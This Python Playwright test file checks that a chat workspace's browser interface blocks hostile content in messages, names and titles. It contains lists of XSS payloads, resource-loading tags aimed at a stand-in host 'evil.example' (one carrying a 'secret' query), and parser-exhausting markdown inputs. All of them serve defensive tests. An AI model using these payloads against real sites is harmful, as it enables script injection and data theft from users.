"""Hostile messages, names and titles have no effect in a real browser (SEC10, SEC11)."""

import re
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from common.ids import new_id
from tests.scripted_model import ScriptedModel
from tests.stack import Stack
from tests.stories.dispute import Dispute, Texts

pytestmark = [pytest.mark.stack, pytest.mark.browser]

EVIL = "https://evil.example"
LOADS = [
    f"![a]({EVIL}/1.png?q=secret)",
    f"![a][r]\n\n[r]: {EVIL}/2.png",
    f"![{EVIL}/3.png][]\n\n[{EVIL}/3.png]: {EVIL}/3.png",
    "![a](//evil.example/4.png)",
    "![a](http://evil.example:8080/5.png)",
    f"[![a]({EVIL}/6.png)]({EVIL}/6)",
    f"![a](<{EVIL}/7.png>)",
    f'![a]({EVIL}/8.png "title")',
    f"- ![a]({EVIL}/9.png)",
    f"| a |\n|---|\n| ![a]({EVIL}/10.png) |",
    f"> ![a]({EVIL}/11.png)",
    f"# ![a]({EVIL}/12.png)",
    f"[^1]: ![a]({EVIL}/13.png)\n\nfoot[^1]",
    f'<img src="{EVIL}/14.png">',
    f'<img srcset="{EVIL}/15.png 2x">',
    f'<picture><source srcset="{EVIL}/16.png"><img></picture>',
    f'<video src="{EVIL}/17.mp4" autoplay poster="{EVIL}/17.png"></video>',
    f'<audio src="{EVIL}/18.mp3" autoplay></audio>',
    f'<iframe src="{EVIL}/19"></iframe>',
    f'<object data="{EVIL}/20"></object>',
    f'<embed src="{EVIL}/21">',
    f'<link rel="stylesheet" href="{EVIL}/22.css">',
    f'<link rel="prefetch" href="{EVIL}/23">',
    '<link rel="dns-prefetch" href="//evil.example">',
    f"<style>@import url({EVIL}/25.css)</style>",
    f'<div style="background:url({EVIL}/26.png)">x</div>',
    f'<body background="{EVIL}/27.png">',
    f'<table background="{EVIL}/28.png"><tr><td>x</td></tr></table>',
    f'<svg><image href="{EVIL}/29.png"/></svg>',
    f'<svg><use href="{EVIL}/30.svg#x"/></svg>',
    f'<input type="image" src="{EVIL}/31.png">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/32">',
    f'<base href="{EVIL}/">',
    f'<form action="{EVIL}/34"><button autofocus>x</button></form>',
    f'<script src="{EVIL}/35.js"></script>',
    f"```mermaid\ngraph TD; A[<img src='{EVIL}/36.png'>]-->B\n```",
    f"$$\\includegraphics{{{EVIL}/37.png}}$$ \\href{{{EVIL}/37}}{{x}}",
    f"{EVIL}/38 and www.evil.example/38 and <{EVIL}/38>",
    f'<a href="{EVIL}/39" ping="{EVIL}/39">x</a>',
    f"![a](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{EVIL}/40.png'/></svg>)",
]
SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></mtext><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<!--><script>alert(1)</script>-->",
    "<xss onpointerenter=alert(1) style=position:fixed;inset:0>x</xss>",
]
NAME = "<img src=x onerror=alert(1)>"
HOSTILE_TEXT = (
    f"<img src={EVIL}/50.png onerror=alert(1)> ![a]({EVIL}/51.png) [x](javascript:alert(1)) <svg onload=alert(1)>"
)

SETUP = """
async ([texts, name, ids]) => {
  const token = () => document.cookie.match(/csrftoken=([^;]+)/)[1]
  const post = async (path, body) => {
    const headers = {'Content-Type': 'application/json', 'X-CSRFToken': token()}
    const answer = await fetch('/api/v1' + path, {method: 'POST', headers, body: JSON.stringify(body)})
    if (!answer.ok) throw new Error(path + ' ' + answer.status + ' ' + await answer.text())
    return answer.json()
  }
  const workspace = await post('/workspaces', {name})
  const agent = await post(`/workspaces/${workspace.id}/agents`, {name, prompt: texts[0], open_chat: true})
  const newChat = {title: name, actor_ids: [agent.actor.id]}
  const chat = (await post(`/workspaces/${workspace.id}/chats`, newChat)).chat.id
  for (const [index, text] of texts.entries())
    await post(`/chats/${chat}/messages`, {id: ids[index], text, wake: 'nobody'})
  return `/w/${workspace.handle}/c/${chat}`
}
"""


class WatchedPage:
    """A page that records requests to other hosts, alerts and reports of its content security policy."""

    def __init__(self, browser: Browser, stack: Stack) -> None:
        self.stack = stack
        self.context = browser.new_context(locale="en-US", viewport={"width": 1280, "height": 900})
        self.page: Page = self.context.new_page()
        self.outside: list[str] = []
        self.alerts: list[str] = []
        self.reports: list[str] = []
        self.context.on("request", lambda request: self._record_request(request.url))
        self.page.on("dialog", self._record_alert)
        self.page.on(
            "console", lambda message: self.reports.append(message.text) if "Content Security" in message.text else None
        )

    def _record_request(self, url: str) -> None:
        if not url.startswith((self.stack.url, self.stack.url.replace("http", "ws", 1), "data:", "blob:")):
            self.outside.append(url)

    def _record_alert(self, dialog: Any) -> None:
        self.alerts.append(dialog.message)
        dialog.dismiss()

    def sign_up(self) -> None:
        """Sign up under a hostile name."""
        page = self.page
        page.goto(self.stack.url + "/sign-up")
        page.get_by_label("Your name").fill(NAME)
        page.get_by_label("Email").fill(f"eve-{new_id()}@example.org")
        page.get_by_label("Password").fill("a long enough password")
        page.get_by_role("button", name="Sign up").click()
        expect(page.get_by_label("Workspace name")).to_be_visible(timeout=20_000)

    def show(self, texts: list[str]) -> None:
        """Open a chat with a hostile title, an agent with a hostile name, and messages with these texts."""
        ids = [str(new_id()) for _ in texts]
        path = self.page.evaluate(SETUP, [texts, NAME, ids])
        self.page.goto(self.stack.url + path)
        log = self.page.get_by_role("log")
        expect(log.locator(f"[data-message='{ids[-1]}'] [data-prose] > *").first).to_be_visible(timeout=20_000)
        self.page.get_by_role("button", name="Workshop").click()
        expect(self.page.get_by_role("complementary", name="Workshop").get_by_role("textbox")).to_be_visible()
        while self.page.locator("[data-older]").count():
            log.evaluate("log => { log.scrollTop = 0 }")
            self.page.wait_for_timeout(200)
        log.evaluate("log => { log.scrollTop = 0 }")
        self.page.wait_for_timeout(500)

    def count_foreign_scripts(self) -> int:
        """Return how many script elements the page has in addition to those of its own file."""
        found: int = self.page.evaluate(
            """async () => {
                const served = new DOMParser().parseFromString(await (await fetch('/')).text(), 'text/html')
                const own = [...served.scripts].map(script => script.outerHTML)
                return [...document.scripts].filter(script => !own.includes(script.outerHTML)).length
            }"""
        )
        return found


@pytest.fixture
def watched(browser: Browser, stack: Stack) -> Iterator[WatchedPage]:
    watched = WatchedPage(browser, stack)
    watched.sign_up()
    yield watched
    watched.context.close()


def test_SEC10_no_message_makes_the_browser_send_a_request_to_another_host(watched: WatchedPage) -> None:
    watched.show(LOADS)
    assert watched.outside == []
    assert watched.reports == []
    # The control: a request to another host is recorded.
    watched.page.evaluate(f"new Image().src = '{EVIL}/control.png'")
    watched.page.wait_for_timeout(300)
    assert watched.reports != []


def test_SEC11_no_text_runs_as_script_in_messages_names_and_titles(watched: WatchedPage) -> None:
    watched.show(SCRIPTS)
    assert watched.alerts == []
    assert watched.reports == []
    assert watched.outside == []
    assert watched.count_foreign_scripts() == 0
    watched.page.evaluate("document.body.append(document.createElement('script'))")
    assert watched.count_foreign_scripts() == 1
    watched.page.evaluate("setTimeout(() => alert('control'))")
    watched.page.wait_for_timeout(300)
    assert watched.alerts == ["control"]


# Texts that need seconds, or overflow the stack, of a Markdown parser.
COSTLY = [
    ">" * 4_000,
    "~~a~ " * 20_000,
    "[a](" * 25_000,
    "*a_ " * 25_000,
    "- " * 2_000,
    "1) " * 2_000,
    "\n".join("  " * depth + "- x" for depth in range(300)),
    "![a" * 20_000,
    "http://a.example " * 5_000,
    "A line of *ordinary* text with a [link](https://a.example).\n\n" * 3_000,
    "|a|b|\n|-|-|\n" + "|1|2|\n" * 15_000,
    "|a" * 3_000 + "|\n" + "|-" * 3_000 + "|\n" + "|1\n" * 200,
    "```c\n" + "a " * 490 + "\n```",
    "The last line.\n\n```py\nimport os\n```",
]


def test_FAIR4_no_message_makes_a_chat_unreadable(watched: WatchedPage) -> None:
    watched.show(COSTLY)
    page = watched.page
    page.get_by_role("log").evaluate("log => { log.scrollTop = log.scrollHeight }")
    expect(page.get_by_text("The last line.")).to_be_visible(timeout=20_000)
    expect(page.locator("[data-code] .hljs-keyword").first).to_have_text("import")
    expect(page.get_by_text("could not be shown")).to_have_count(0)
    page.get_by_placeholder(re.compile("^Message ")).fill("And on it goes.")
    page.keyboard.press("Enter")
    expect(page.get_by_role("log").get_by_text("And on it goes.")).to_be_visible()
    assert (watched.alerts, watched.outside, watched.reports) == ([], [], [])


def join(watched: WatchedPage, dispute: Dispute) -> None:
    watched.page.goto(dispute.link)
    watched.page.get_by_role("button", name=re.compile("^Join as")).click()
    expect(watched.page.get_by_role("log")).to_be_visible(timeout=20_000)


def open_chat(page: Page) -> None:
    """Open a comparison, and a conflict of two contributors."""
    expect(page.get_by_role("log").get_by_role("region", name=re.compile("^Draft r1"))).to_contain_text("alert(1)")
    workshop = page.get_by_role("complementary", name="Workshop")
    page.get_by_role("button", name=re.compile("^Workshop")).click()
    expect(workshop.get_by_role("group").filter(has_text="in use")).to_contain_text("2 <img")
    workshop.get_by_role("radio", name=re.compile("^Diff to .*v2")).click()
    expect(workshop.get_by_text("3 <img").first).to_be_visible()


def open_suggestions(page: Page, dispute: Dispute) -> None:
    page.get_by_role("link", name=re.compile("^Suggestions")).first.click()
    expect(page.get_by_role("list", name="Suggestions").get_by_role("listitem").first).to_contain_text("<img")
    expect(page.get_by_role("textbox", name="Diff")).to_contain_text("1 <img")
    page.get_by_role("radio", name="Rejected").click()
    expect(page.get_by_role("textbox", name="Diff")).to_contain_text("0 <img")
    page.goto(page.url.partition("/w/")[0] + f"{dispute.home}/suggestions?m={dispute.merge}")
    expect(page.get_by_role("main")).to_contain_text("2 <img")


def open_history(page: Page) -> None:
    page.keyboard.press("g")
    page.keyboard.press("h")
    page.wait_for_url("**/history*")
    expect(page.get_by_text(HOSTILE_TEXT).first).to_be_visible()
    expect(page.get_by_text("Second.").first).to_be_visible()


def open_notifications(page: Page) -> None:
    page.get_by_role("button", name=re.compile("^Notifications")).first.click()
    expect(page.get_by_role("dialog").get_by_text(re.compile("mentioned you")).first).to_be_visible()
    expect(page.get_by_role("dialog").get_by_text(re.compile("suggests a change")).first).to_be_visible()


def test_SEC10_SEC11_no_text_runs_or_loads_on_any_screen_of_the_workshop(
    watched: WatchedPage, stack: Stack, model: ScriptedModel
) -> None:
    dispute = Dispute(stack, model, Texts(name=NAME, prompt="\n".join([*LOADS, *SCRIPTS]), text=HOSTILE_TEXT))
    join(watched, dispute)
    dispute.create_rows()
    open_chat(watched.page)
    open_suggestions(watched.page, dispute)
    open_history(watched.page)
    open_notifications(watched.page)
    assert (watched.alerts, watched.outside, watched.reports) == ([], [], [])
    assert watched.count_foreign_scripts() == 0
